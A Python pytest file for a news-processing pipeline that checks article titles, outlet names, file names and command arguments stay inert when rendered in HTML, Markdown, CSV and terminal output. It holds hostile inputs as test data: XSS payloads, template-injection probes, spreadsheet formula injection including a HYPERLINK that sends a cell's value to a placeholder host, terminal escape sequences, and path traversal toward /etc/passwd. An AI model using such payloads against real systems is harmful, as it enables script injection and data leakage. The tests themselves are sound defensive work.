"""Names, titles and words written to be executed: in pages, on a terminal, in a spreadsheet, as paths. They stay words."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace

import pytest
from playwright.sync_api import Browser

from kzpipe.corrections.lines import FOLDER, read_folder
from kzpipe.paths import Project
from kzpipe.store import read_table

HERE = Path(__file__).parent
sys.path[:0] = [str(HERE.parent / "versions/render"), str(HERE.parent / "chain")]

from bad_articles import OTHER, THIRD, USABLE  # noqa: E402 - found by the line above
from browser import open_browser  # noqa: E402

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("browser")]

Command = Callable[..., SimpleNamespace]
SCRIPT = "</script></style></title><script>window.hit=1</script>"
IMAGE = "\"'><img src=x onerror=window.hit=1><svg onload=window.hit=1>"
TEMPLATE = "{{7*7}}{% raw %}${7*7}"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"x")'
TERMINAL = "\x1b[31mred\x1b[2J\x1b]0;title\x07\u202ekcab\x9b5m"
NAMES = {
    f"{TEMPLATE}.txt": USABLE,
    "=cmd'!A1.txt": OTHER,
    "\x1b[31m\x1b]0;t\x07\u202egnp.txt": THIRD.replace("يوم الأحد", ""),
    "..%2f..%2fetc%2fpasswd <img src=x onerror=window.hit=1>.txt": "short",
}
TYPED = (
    ("summary",),
    ("corrections",),
    ("why", TERMINAL),
    ("show", TERMINAL),
    ("show", "../../etc/passwd"),
    ("diff", TERMINAL),
    ("release", "../../x"),
    ("rebuild", TERMINAL),
    ("history", TERMINAL),
    ("add", f"/no/{TERMINAL}.txt"),
    ("fetch", TERMINAL),
    ("correct", TERMINAL, "number", "1", "--reason", "x"),
    ("draft", TERMINAL),
    ("lexicon", "try", f"قال {TERMINAL} {IMAGE}"),
)
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]")


def _records() -> str:
    """Two articles whose title, outlet, address and words are hostile."""
    attacked = OTHER.replace("وقالت إن", f"وقالت «{IMAGE} إن المدينة هادئة {SCRIPT} منذ الفجر» إن").replace("نور سلطان", "أستانا")
    labelled = THIRD.replace("ثلاثة عمال", f"26 «{FORMULA} مجرما» و-1 +1 @SUM(1)\t=1+1 {TERMINAL} وثلاثة عمال")
    rows = [
        {"title": f"الشرطة {SCRIPT}{IMAGE}", "outlet": FORMULA, "url": "javascript:window.hit=1", "text": attacked},
        {
            "title": f"{TEMPLATE} {TERMINAL}",
            "outlet": f"@SUM(A1) {TERMINAL}",
            "url": "data:text/html,<script>",
            "published": "2022-01-10",
            "text": labelled,
        },
    ]
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory, copy_project: Callable[..., Project], kzpipe_command: Command) -> SimpleNamespace:
    """A copy of the project in which the chain has run over hostile articles."""
    project = copy_project(tmp_path_factory.mktemp("escapes"), articles=())
    (project.root / "data/raw" / "plain.txt").write_text(USABLE.replace("70", "71"), "utf-8")
    text = project.parameters.read_text("utf-8")
    for name in ("max_set_aside_share", "max_reject_share"):
        text = re.sub(rf"{name}: [\d.]+", f"{name}: 1.0", text)
    project.parameters.write_text(re.sub(r"near_copy_similarity: [\d.]+", "near_copy_similarity: 0.97", text), "utf-8")
    assert kzpipe_command(project, "run").returncode in (0, 1)
    for words in (("config", "user.name", "A"), ("config", "user.email", "a@example.org"), ("add", "--all"), ("commit", "--quiet", "-m", "Begin")):
        subprocess.run(["git", *words], cwd=project.root, check=True)
    for name, article in NAMES.items():
        (project.root / "data/raw" / name).write_text(article, "utf-8")
    (project.root / "data/raw" / "records '\"><b>.jsonl").write_text(_records(), "utf-8")
    done = kzpipe_command(project, "run")
    assert done.returncode in (0, 1), done.stderr  # 1: the gold of the project is of other articles
    assert not OBEYED.search(done.stdout + done.stderr)
    articles = read_table(project.stages, "articles").to_pylist()
    documents = {row["document_id"]: row for row in read_table(project.stages, "documents").to_pylist()}
    hostile = [row["document_id"] for row in articles if documents[row["document_id"]]["source_path"].startswith("records")]
    assert len(hostile) == 2, read_table(project.stages, "quarantine").to_pylist()
    return SimpleNamespace(project=project, hostile=hostile, run=lambda *words: kzpipe_command(project, *words))


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as opened:
        yield opened


def opened_quietly(browser: Browser, file: Path) -> str:
    """Open a page, click what can be opened, and return its words: nothing is executed, asked for, or leads to a script."""
    wrong: list[str] = []
    context = browser.new_context()
    page = context.new_page()
    page.on("dialog", lambda dialog: (wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda request: wrong.append(request.url) if not request.url.startswith(("file:", "blob:")) else None)
    page.goto(file.as_uri())
    page.wait_for_load_state()
    hit = page.evaluate("() => window.hit ?? null")
    attribute = "e => e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('action')"
    links = page.eval_on_selector_all("[href],[src],[action]", f"all => all.map({attribute})")
    handlers = page.eval_on_selector_all("*", "all => all.flatMap(e => [...e.attributes]).filter(a => a.name.startsWith('on')).length")
    words = page.evaluate("() => document.documentElement.textContent")
    context.close()
    assert (hit, wrong, handlers) == (None, [], 0), file
    assert not [link for link in links if link.strip().lower().startswith(("javascript:", "data:text", "vbscript:"))], file
    return str(words)


def test_pages(made: SimpleNamespace, browser: Browser) -> None:
    files = sorted((made.project.root / "reports").rglob("*.html"))
    assert {"reports/site/index.html", "reports/validation/index.html"} <= {file.relative_to(made.project.root).as_posix() for file in files}
    words = "".join(opened_quietly(browser, file) for file in files)
    assert "{{7*7}}" in words
    assert "<img src=x onerror=window.hit=1>" in words
    assert FORMULA in words, "what is hostile is shown as it is written"


@pytest.mark.parametrize("form", ["html", "markdown", "text", "json"])
def test_comparisons(made: SimpleNamespace, browser: Browser, form: str, tmp_path: Path) -> None:
    file = tmp_path / f"diff.{form}"
    done = made.run("diff", "HEAD", "workspace", "--format", form, "--output", str(file), "--limit", "500")
    assert done.returncode == 0, done.stderr
    if form == "html":
        assert "window.hit" in opened_quietly(browser, file)
        return
    content = file.read_text("utf-8")
    assert "window.hit" in content
    assert not OBEYED.search(content)
    if form == "markdown":
        bare = re.sub(r"(`+)[^\n]*?\1", "", content)  # what stands as code is shown as it is
        elements = re.findall(r"<(?!/?(?:details|summary|strong|sub)>)[^\n]{0,40}", bare)
        assert not elements, "no element but its own"


@pytest.mark.parametrize("number", [0, 1])
def test_one_article(made: SimpleNamespace, browser: Browser, number: int, tmp_path: Path) -> None:
    page = tmp_path / "article.html"
    assert made.run("show", made.hostile[number], "--format", "html", "--output", str(page)).returncode == 0
    opened_quietly(browser, page)
    for words in (("show", made.hostile[number]), ("show", made.hostile[number], "--format", "json")):
        done = made.run(*words)
        assert done.returncode == 0, done.stderr
        assert not OBEYED.search(done.stdout + done.stderr)


def test_rows_on_a_terminal(made: SimpleNamespace) -> None:
    for table, key in (("claims", "claim_id"), ("quotes", "quote_id"), ("mentions", "mention_id")):
        ids = [row[key] for row in read_table(made.project.stages, table).to_pylist() if row["document_id"] in made.hostile][:3]
        for row_id in ids:
            for words in (("why", row_id), ("why", row_id, "--json")):
                done = made.run(*words)
                assert done.returncode == 0, done.stderr
                assert not OBEYED.search(done.stdout + done.stderr)


@pytest.mark.parametrize("words", TYPED, ids=lambda words: " ".join(words[:1]))
def test_what_is_typed_comes_back_harmless(made: SimpleNamespace, words: tuple[str, ...]) -> None:
    arguments = [word.replace("\x00", "") for word in words]
    done = made.run(*arguments)
    assert "Traceback" not in done.stderr
    assert not OBEYED.search(done.stdout + done.stderr), done.stdout + done.stderr


def test_a_verdict_in_a_spreadsheet_is_no_formula(made: SimpleNamespace) -> None:
    claims = [row for row in read_table(made.project.stages, "claims").to_pylist() if row["document_id"] in made.hostile and row["label_ar"]]
    reasons = ("=1+1", "+1", "-1", "@SUM(A1)", "'=1", "plain")
    for claim, reason in zip(claims * 6, reasons, strict=False):
        assert made.run("accept", claim["claim_id"], "--reason", reason).returncode == 0
        (file,) = (made.project.root / FOLDER).glob("*.csv")
        for line in list(csv.reader(io.StringIO(file.read_text("utf-8"))))[1:]:
            assert not [cell for cell in line if re.match(r"[=+\-@\t\r]", cell)], line
        assert [one.reason for one in read_folder(made.project.root) if one.row_id == claim["claim_id"]] == [reason]
    done = made.run("corrections", "--articles")
    assert done.returncode == 0
    assert not OBEYED.search(done.stdout)


@pytest.mark.parametrize("name", ["../../outside", "/tmp/outside", "..", "a/../../b", "x\x1b[31m\u202e", "CON\n.txt"])
def test_a_draft_stays_in_its_folder(made: SimpleNamespace, name: str) -> None:
    root = made.project.root
    gold = root / "data/curated/gold"
    before = {path for path in root.parent.rglob("*") if gold not in path.parents and ".state" not in path.parts and ".git" not in path.parts}
    kept = set(gold.iterdir())
    done = made.run("draft", made.hostile[0], "--name", name)
    assert "Traceback" not in done.stderr
    after = {path for path in root.parent.rglob("*") if gold not in path.parents and ".state" not in path.parts and ".git" not in path.parts}
    assert after == before
    new = set(gold.iterdir()) - kept
    assert (done.returncode == 0) == bool(new)
    assert all(re.fullmatch(r"[\w() -]+\.(txt|gold\.json)", file.name) for file in new), new
    for file in new:
        file.unlink()


def test_what_is_added_stays_in_the_raw_folder(made: SimpleNamespace, tmp_path: Path) -> None:
    folder = tmp_path / "in" / "..sub"
    folder.mkdir(parents=True)
    names = ["..txt.txt", "=1+1.txt", "\x1b[31mred.txt", "a\nb.txt", "-rf.txt", "\u202etxt.txt"]
    for name in names:
        (folder / name).write_text(USABLE + name.replace("\x1b", ""), "utf-8")
    (folder / "link.txt").symlink_to("/etc/passwd")
    raw = made.project.root / "data/raw"
    kept = set(raw.iterdir())
    done = made.run("add", str(folder), "--outlet", f"{FORMULA}{TERMINAL}".replace("\x00", ""))
    assert done.returncode == 0, done.stderr
    assert not OBEYED.search(done.stdout + done.stderr)
    new = set(raw.iterdir()) - kept
    assert {file.name for file in new if not file.name.endswith(".meta.json")} <= {*names, "link.txt"}
    assert all(file.is_file() and not file.is_symlink() for file in new)
    for file in new:
        file.unlink()
